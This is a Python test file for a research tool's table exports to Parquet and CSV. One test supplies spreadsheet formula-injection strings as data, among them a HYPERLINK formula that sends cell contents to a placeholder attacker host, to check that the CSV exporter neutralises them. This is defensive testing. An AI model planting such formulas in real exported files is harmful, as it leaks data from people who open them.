"""Our tables as Parquet and as CSV, and the catalogue of formats."""

import json
from pathlib import Path

import polars as pl
from polars.testing import assert_frame_equal
from tests.formats.conftest import Making, study_of

from beholder.collect.routes.researcher import FORMATS as OF_THE_SERVER
from beholder.formats import ours
from beholder.formats.answered import competition_ranks, public_paths
from beholder.formats.catalogue import WRITABLE
from beholder.formats.formulas import formula_notes
from beholder.formats.reading import write_csv as write_table
from beholder.study.kinds.ranking import RankingQuestion
from beholder.study.study import load_study
from beholder.tables.csv_text import unescape_texts

QUESTION = RankingQuestion(name="order", images=3)


def small(making: Making) -> Making:
    making.prompt("p", 'a "cat",\nasleep')
    for name in "abc":
        making.image(name, "gen", prompt="p")
    making.session("r", "order")
    making.judged("r", QUESTION, ["a", "b", "c"], {"preference": {"ranking": [2, 1, 3]}}, prompt="p")
    return making


def test_the_server_offers_what_there_is() -> None:
    assert tuple(WRITABLE) == OF_THE_SERVER


def test_parquet_is_row_for_row(making: Making, tmp_path: Path) -> None:
    tables, study = small(making).tables(), study_of(QUESTION)
    ours.write_parquet(study, tables, tmp_path)
    assert load_study(tmp_path) == study
    for name, frame in tables.items():
        assert_frame_equal(pl.read_parquet(tmp_path / "tables" / f"{name}.parquet"), frame)


def test_csv_holds_lists_as_json_and_moments_as_iso(making: Making, tmp_path: Path) -> None:
    tables = small(making).tables()
    maps = pl.DataFrame({"heatmap": [b"\x00\xff"]})
    ours.write_csv(study_of(QUESTION), tables | {"regions": maps}, tmp_path)
    answers = pl.read_csv(tmp_path / "answers.csv")
    assert json.loads(answers["ranking"][0]) == [2, 1, 3]
    assert answers["answered"][0] == "2026-01-31T13:00:00.000000Z"
    assert pl.read_csv(tmp_path / "prompts.csv")["text"][0] == 'a "cat",\nasleep'
    assert pl.read_csv(tmp_path / "regions.csv")["heatmap"][0] == "AP8="


def test_csv_holds_no_formula_and_can_be_read_back(making: Making, tmp_path: Path) -> None:
    formulas = ['=HYPERLINK("http://evil.example?"&A1)', "+1", "-a cat", "@x", "\t=1", "'=1", "'tis"]
    for number, text in enumerate(formulas):
        making.prompt(f"p{number}", text)
        making.image(f"-{number}.png", "@gen", prompt=f"p{number}")
    tables = small(making).tables()
    written = ours.write_csv(study_of(QUESTION), tables, tmp_path)
    assert formula_notes(written.files) == ()
    for name in ("prompts", "images"):
        table = pl.read_csv(tmp_path / f"{name}.csv", infer_schema=False)
        plain = tables[name].select(pl.col(pl.String))
        assert_frame_equal(unescape_texts(table).select(plain.columns), plain)


def test_formats_of_others_have_texts_as_they_are_and_a_note(tmp_path: Path) -> None:
    write_table(
        tmp_path / "data.csv", ["name", "mean"], pl.DataFrame({"name": ["=1+1", "a"], "mean": [-0.5, 1.0]})
    )
    assert (tmp_path / "data.csv").read_text(encoding="utf-8") == "name,mean\n=1+1,-0.5\na,1.0\n"
    (note,) = formula_notes([tmp_path / "data.csv"])
    assert note.startswith("data.csv: a spreadsheet would take 1 text for formulas")


def test_ranks_share_the_better_place() -> None:
    assert competition_ranks([0.5, 0.1, 0.5, 0.9]) == [2, 1, 2, 4]


def test_a_file_outside_the_study_is_not_named_by_its_place() -> None:
    images = pl.DataFrame({"image": ["a", "b", "c"], "path": ["images/a.png", "/secret/b.png", "C:\\c.png"]})
    assert public_paths(images) == {"a": "images/a.png", "b": "b", "c": "c"}
